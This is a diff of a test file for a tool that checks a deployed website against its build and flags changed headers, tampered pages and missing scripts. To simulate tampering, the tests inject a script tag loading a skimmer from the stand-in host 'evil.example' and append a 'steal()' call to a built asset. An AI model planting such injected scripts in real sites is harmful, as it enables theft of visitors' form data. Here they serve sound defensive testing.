@@ -14,8 +14,6 @@ let sandbox: Sandbox;
 let environment: Record<string, string>;
 let changeHeaders: (headers: Record<string, string>) => Record<string, string>;
 
-const page = (more = '') => `<!doctype html><html><head>${more}</head><body></body></html>`;
-
 /** A live site: a copy of the build, which tests then tamper with. */
 let live: string;
 
@@ -25,9 +23,8 @@ beforeEach(async () => {
   live = join(folder, 'live');
   mkdirSync(join(dist, 'assets'), { recursive: true });
   mkdirSync(join(dist, 'member'));
-  const script = '<script type="module" src="/form/assets/main-1.js"></script>';
-  writeFileSync(join(dist, 'index.html'), page(script));
-  writeFileSync(join(dist, 'member', 'index.html'), page(`${script}<style>p{color:red}</style>`));
+  writeFileSync(join(dist, 'index.html'), '<script>import("/form/assets/main-1.js")</script>');
+  writeFileSync(join(dist, 'member', 'index.html'), '<style>p{color:red}</style>');
   writeFileSync(join(dist, 'assets', 'main-1.js'), 'main');
   cpSync(dist, live, { recursive: true });
   changeHeaders = (headers) => headers;
@@ -85,14 +82,20 @@ it('a header that is missing, changed or new is a difference', async () => {
   expect(found).toContain('Set-Cookie is “a=b”');
 });
 
-it('a script that somebody has added is a difference', async () => {
-  const file = join(live, 'member', 'index.html');
-  const injected = '<script src="//evil.example/skim.js"></script>';
-  writeFileSync(file, readFileSync(file, 'utf8').replace('</body>', `${injected}</body>`));
+it('a page or a script that somebody has changed is a difference', async () => {
+  appendFileSync(join(live, 'member', 'index.html'), '<script src="//evil.example/skim.js"></script>');
   appendFileSync(join(live, 'assets', 'main-1.js'), ';steal()');
+  const found = ['/form/member', '/form/assets/main-1.js'].map((path) => `${path}: not what was built.`);
+  expect(await differences()).toBe(found.join('\n'));
+});
+
+it('a script that is not there is a difference, ours or another site’s', async () => {
+  rmSync(join(live, 'assets', 'main-1.js'));
+  const { api, gateway } = sandbox.addresses;
+  await fetch(`${api}/sandbox/scenarios/gatewayScript`, { method: 'PUT', body: '{"status":404}' });
   const found = await differences();
-  expect(found).toContain(`the build knows no ${injected}`);
-  expect(found).toContain('/form/assets/main-1.js: the file is not the one that was built.');
+  expect(found).toContain('/form/assets/main-1.js: status 404, not 200.');
+  expect(found).toContain(`${gateway}/js/mp-token.js (card gateway): status 404.`);
 });
 
 describe('check:deployed ends with', () => {
